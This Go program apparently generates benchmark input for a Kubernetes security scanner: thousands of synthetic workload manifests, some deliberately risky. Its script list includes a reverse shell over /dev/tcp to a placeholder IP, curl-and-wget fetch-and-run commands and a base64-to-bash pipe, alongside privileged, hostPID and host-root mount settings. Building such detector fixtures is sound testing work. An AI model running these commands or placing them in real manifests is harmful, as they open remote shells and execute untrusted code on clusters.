// Command gen writes a reproducible benchmark input: N mixed workload objects (CronJobs, Jobs,
// Deployments, DaemonSets, StatefulSets, Pods, ConfigMaps; some clean, some risky) as one
// multi-document file and as the same objects spread over F files.
//
//	go run ./bench/gen -n 10000 -files 100 -out bench/out/input
package main

import (
	"bufio"
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
)

func main() {
	n := flag.Int("n", 10000, "number of objects")
	files := flag.Int("files", 100, "number of files for the split copy")
	out := flag.String("out", "bench/out/input", "output directory")
	seed := flag.Uint64("seed", 1, "random seed")
	flag.Parse()
	if *n <= 0 || *files <= 0 {
		fmt.Fprintln(os.Stderr, "gen: -n and -files must be positive")
		os.Exit(2)
	}
	if err := generate(*n, *files, *out, *seed); err != nil {
		fmt.Fprintln(os.Stderr, "gen:", err)
		os.Exit(1)
	}
}

func generate(n, files int, out string, seed uint64) error {
	split := filepath.Join(out, "split")
	if err := os.MkdirAll(split, 0o755); err != nil {
		return err
	}
	single, err := os.Create(filepath.Join(out, "all.yaml"))
	if err != nil {
		return err
	}
	defer single.Close()
	sw := bufio.NewWriter(single)
	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	per := (n + files - 1) / files
	for f := 0; f < files; f++ {
		lo, hi := f*per, min((f+1)*per, n)
		if lo >= hi {
			break
		}
		var b strings.Builder
		for i := lo; i < hi; i++ {
			doc := object(r, i)
			b.WriteString("---\n")
			b.WriteString(doc)
		}
		if _, err := sw.WriteString(b.String()); err != nil {
			return err
		}
		if err := os.WriteFile(filepath.Join(split, fmt.Sprintf("part-%03d.yaml", f)), []byte(b.String()), 0o644); err != nil {
			return err
		}
	}
	return sw.Flush()
}

var images = []string{
	"registry.example.com/shop/api:1.2.3@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
	"nginx:1.27", "busybox", "alpine:latest", "ghcr.io/acme/worker:2.0.1", "docker.io/kuberntesio/pause:3.9",
	"postgres:16", "redis:7.4@sha256:5d41402abc4b2a76b9719d911017c592a1b3c2d4e5f60718293a4b5c6d7e8f90",
}

// scripts are what the containers run; %[1]s is the object's name, so half of them differ from one
// object to the next as real commands do (and no cache of analyses can make them free).
var scripts = []string{
	`pg_dump --host=db.shop.svc shop | gzip > /backup/%[1]s-$(date +%%F).sql.gz`,
	`curl -fsS -X POST http://report.ops.svc.cluster.local/run/%[1]s`,
	`curl -s http://203.0.113.7/i.sh | sh`,
	`echo aGVsbG8K | base64 -d | bash`,
	`find /data/%[1]s -mtime +7 -delete && echo cleaned %[1]s`,
	`bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`,
	`python3 /app/report.py --since=24h --name %[1]s`,
	`wget -qO /tmp/x http://198.51.100.2/x && chmod +x /tmp/x && /tmp/x`,
}

func pick[T any](r *rand.Rand, s []T) T { return s[r.IntN(len(s))] }

func securityContext(r *rand.Rand, ind string) string {
	switch r.IntN(4) {
	case 0:
		return ind + "securityContext:\n" + ind + "  privileged: true\n"
	case 1:
		return ""
	default:
		return ind + "securityContext:\n" + ind + "  allowPrivilegeEscalation: false\n" + ind + "  runAsNonRoot: true\n" +
			ind + "  capabilities:\n" + ind + "    drop: [\"ALL\"]\n" + ind + "  seccompProfile:\n" + ind + "    type: RuntimeDefault\n"
	}
}

// podSpec renders a pod spec indented by ind for the object name.
func podSpec(r *rand.Rand, ind string, restart bool, name string) string {
	var b strings.Builder
	if restart {
		b.WriteString(ind + "restartPolicy: OnFailure\n")
	}
	if r.IntN(5) == 0 {
		b.WriteString(ind + "hostPID: true\n")
	}
	b.WriteString(ind + "containers:\n")
	for c := 0; c < 1+r.IntN(2); c++ {
		fmt.Fprintf(&b, "%s- name: c%d\n%s  image: %s\n", ind, c, ind, pick(r, images))
		script := pick(r, scripts)
		if strings.Contains(script, "%[1]s") {
			script = fmt.Sprintf(script, name)
		}
		fmt.Fprintf(&b, "%s  command: [\"/bin/sh\", \"-c\"]\n%s  args:\n%s  - %q\n", ind, ind, ind, script)
		fmt.Fprintf(&b, "%s  env:\n%s  - name: MODE\n%s    value: production\n", ind, ind, ind)
		fmt.Fprintf(&b, "%s  resources:\n%s    limits: {cpu: 500m, memory: 256Mi}\n", ind, ind)
		b.WriteString(securityContext(r, ind+"  "))
	}
	if r.IntN(6) == 0 {
		fmt.Fprintf(&b, "%svolumes:\n%s- name: host\n%s  hostPath: {path: /}\n", ind, ind, ind)
	}
	return b.String()
}

func object(r *rand.Rand, i int) string {
	ns := pick(r, []string{"shop", "ops", "kube-system", "data", "web"})
	name := fmt.Sprintf("obj-%05d", i)
	meta := fmt.Sprintf("metadata:\n  name: %s\n  namespace: %s\n  labels: {app: %s, tier: backend}\n", name, ns, name)
	switch i % 8 {
	case 0, 1, 2:
		return "apiVersion: batch/v1\nkind: CronJob\n" + meta + "spec:\n" +
			fmt.Sprintf("  schedule: %q\n", pick(r, []string{"*/1 * * * *", "0 3 * * *", "*/5 * * * *", "@hourly"})) +
			fmt.Sprintf("  successfulJobsHistoryLimit: %d\n  failedJobsHistoryLimit: %d\n", r.IntN(2), r.IntN(2)) +
			"  jobTemplate:\n    spec:\n      template:\n        spec:\n" + podSpec(r, "          ", true, name)
	case 3:
		return "apiVersion: batch/v1\nkind: Job\n" + meta + "spec:\n  template:\n    spec:\n" + podSpec(r, "      ", true, name)
	case 4:
		return "apiVersion: apps/v1\nkind: Deployment\n" + meta + "spec:\n  replicas: 2\n  selector:\n    matchLabels: {app: " + name +
			"}\n  template:\n    metadata:\n      labels: {app: " + name + "}\n    spec:\n" + podSpec(r, "      ", false, name)
	case 5:
		return "apiVersion: apps/v1\nkind: DaemonSet\n" + meta + "spec:\n  selector:\n    matchLabels: {app: " + name +
			"}\n  template:\n    metadata:\n      labels: {app: " + name + "}\n    spec:\n" + podSpec(r, "      ", false, name)
	case 6:
		return "apiVersion: apps/v1\nkind: StatefulSet\n" + meta + "spec:\n  serviceName: " + name + "\n  selector:\n    matchLabels: {app: " + name +
			"}\n  template:\n    metadata:\n      labels: {app: " + name + "}\n    spec:\n" + podSpec(r, "      ", false, name)
	default:
		script := pick(r, scripts)
		if strings.Contains(script, "%[1]s") {
			script = fmt.Sprintf(script, name)
		}
		return "apiVersion: v1\nkind: ConfigMap\n" + meta + "data:\n  run.sh: |\n    #!/bin/sh\n    " + script + "\n"
	}
}
